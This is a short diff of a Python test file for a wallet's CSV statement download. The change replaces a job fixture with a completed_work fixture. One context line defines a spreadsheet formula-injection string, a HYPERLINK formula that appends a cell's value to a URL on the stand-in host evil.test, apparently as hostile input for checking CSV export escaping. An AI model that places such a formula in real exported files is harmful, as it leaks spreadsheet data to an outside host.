@@ -20,14 +20,9 @@ JANUARY = {"start": "2026-01-01T00:00:00Z", "end": "2026-02-01T00:00:00Z"}
 EVIL = '=HYPERLINK("http://evil.test?"&A1,"Fence"), two "coats" and more'
 
 
-@pytest.fixture
-def work(market, server):
-    return JobInProgress(market, server)
-
-
-async def test_a_statement_as_a_file(work):
+async def test_a_statement_as_a_file(completed_work):
     """Guard: the headers in `downloads.send`, `to_decimal`, and the running balance."""
-    await work.start_and_complete()
+    work = completed_work
     await work.withdraw(20_000)
     status, headers, rows = await download(
         work.contractor, "wallet/statement.csv", **recent_period()
